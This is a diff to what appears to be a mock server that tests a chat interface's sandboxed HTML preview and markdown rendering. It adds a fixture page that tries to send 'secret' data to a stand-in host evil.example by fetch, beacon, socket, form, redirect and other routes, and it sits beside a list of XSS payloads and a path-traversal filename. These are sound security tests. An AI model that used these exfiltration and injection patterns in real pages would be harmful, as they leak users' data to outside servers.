@@ -9,7 +9,27 @@ const policy = (name) => readFileSync(join(ui, `policy-${name}.txt`), 'utf8').tr
 const TYPES = { '.txt': 'text/plain; charset=utf-8', '.html': 'text/html; charset=utf-8', '.js': 'text/javascript; charset=utf-8', '.css': 'text/css; charset=utf-8', '.woff2': 'font/woff2', '.png': 'image/png' };
 
 const BOXES = 'Two things:\n\n```json\n[\n  {"bbox_2d": [100, 200, 400, 600], "label": "red square"},\n  {"bbox_2d": [500, 500, 800, 900], "label": "blue square"},\n  {"point_2d": [750, 250], "label": "a point"}\n]\n```\n\nThe <ref>left one</ref><box>(100,200),(400,600)</box> is red.';
+// As models write them: Qwen2-VL's tokens, a list without labels, a pair of brackets, Molmo's points, half a mark at the end.
+const FORMS = 'One <|object_ref_start|>cat<|object_ref_end|><|box_start|>(100,100),(200,200)<|box_end|>, <box>[[300, 100, 400, 200]]</box>, {"bbox": [500, 100, 600, 200], "name": "dog"}, <point x="75" y="15" alt="tail">tail</point> and <box>(9';
 const CODE = 'First `src/main.py`:\n\n```python\n# src/main.py\nprint("hello")\n```\n\nThen a page:\n\n```html\n<!doctype html><style>p{color:rgb(1,2,3)}</style><p id="p">start</p><script>document.getElementById("p").textContent = "alive " + origin + (() => { try { return parent.document.title } catch { return " alone" } })()</script>\n```\n\nAnd\n\n```rust\nfn main() {}\n```\n\n```../../etc/passwd.sh\necho no\n```\n';
+// A page that wants out: every way to reach another server, the page around it, or a window of its own.
+const ESCAPE = `<!doctype html><meta http-equiv="refresh" content="1;url=https://evil.example/refresh"><link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="https://evil.example"><img src="https://evil.example/img"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form" method="post"><input name="q" value="secret"></form><p id="p">start</p><script>
+const tried = [];
+const run = (name, what) => { try { what(); tried.push(name); } catch (e) { tried.push(name + ' refused'); } };
+run('fetch', () => fetch('https://evil.example/fetch').catch(() => {}));
+run('own server', () => fetch('/v1/models').catch(() => {}));
+run('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
+run('socket', () => new WebSocket('wss://evil.example/socket'));
+run('events', () => new EventSource('https://evil.example/events'));
+run('worker', () => new Worker('data:text/javascript,fetch("https://evil.example/worker")'));
+run('open', () => { if (open('https://evil.example/open')) throw 0; });
+run('top', () => { top.location = 'https://evil.example/top'; });
+run('parent', () => { parent.hacked = 1; });
+run('store', () => localStorage.length);
+run('form', () => document.forms[0].submit());
+document.getElementById('p').textContent = 'tried ' + tried.length;
+setTimeout(() => { location = 'https://evil.example/self?q=secret'; }, 300);
+</script>`;
 const RICH = '# Heading\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\nInline $e^{i\\pi}+1=0$ and\n\n$$\\int_0^1 x^2\\,dx = \\frac13$$\n\nIt costs $5 and $6.\n\n- one\n- **two**\n\n> quoted\n\n[a link](https://example.com/)';
 export const HOSTILE = [
   '<script>window.hacked = 1</script>', '<img src=x onerror="window.hacked = 2">', '<svg onload="window.hacked = 3"></svg>', '<iframe src="javascript:parent.hacked=4"></iframe>',
@@ -27,9 +47,11 @@ function script(text, body, state) {
   const has = (s) => text.includes(s);
   if (has('boxes')) return { text: BOXES };
   if (has('long code')) return { text: `\`\`\`html\n<!doctype html>${'<p>line</p>\n'.repeat(400)}<p id="end">end</p>\n\`\`\`\n`, step: 200 };
+  if (has('escape')) return { text: `\`\`\`html\n${ESCAPE.replaceAll('evil.example', state.evil).replaceAll('https:', 'http:').replaceAll('wss:', 'ws:')}\n\`\`\`\n` };
   if (has('code')) return { text: CODE };
   if (has('rich')) return { text: RICH };
   if (has('hostile')) return { text: HOSTILE };
+  if (has('a megabyte')) return { text: 'Some *text* with `code` and [links](https://a.b/c).\n\n'.repeat(20_000), step: 20_000 };
   if (has('huge')) return { text: `${'# x *y* `z` [a](b) '.repeat(25_000)}`, step: 20_000 };
   if (has('deep')) return { text: `${'> '.repeat(5000)}deep ${'['.repeat(5000)}`, step: 1500 };
   if (has('slow')) return { text: Array.from({ length: 400 }, (_, i) => `word${i} `).join(''), pause: 40 };
@@ -38,6 +60,8 @@ function script(text, body, state) {
   if (has('think')) return { reasoning: 'Let me look at it closely.', text: 'I have thought.' };
   if (has('weather') && body.messages.at(-1).role === 'user') return { calls: [{ id: 'call_1', name: 'weather', arguments: '{"city": "Berlin"}' }] };
   if (has('weather')) return { text: `It is ${body.messages.at(-1).content}.` };
+  if (has('press it')) return { calls: [{ id: 'call_2', name: 'click', arguments: '{"target": {"bbox_2d": [250, 250, 750, 750], "label": "OK"}}' }] };
+  if (has('forms')) return { text: FORMS };
   if (has('break')) {
     const whole = 'The connection breaks in the middle of this sentence but nothing is lost.';
     const last = body.messages.at(-1);
@@ -86,7 +110,7 @@ function file(pathname, response) {
   const at = join(ui, 'dist', name);
   if (!/^[\w.-]+$/.test(name) || !existsSync(at)) return response.writeHead(404).end();
   response.writeHead(200, {
-    'content-type': TYPES[extname(name)], 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer',
+    'content-type': TYPES[extname(name)], 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer', 'x-dns-prefetch-control': 'off',
     'content-security-policy': policy(name === 'preview.html' ? 'preview' : 'page'),
   }).end(readFileSync(at));
 }
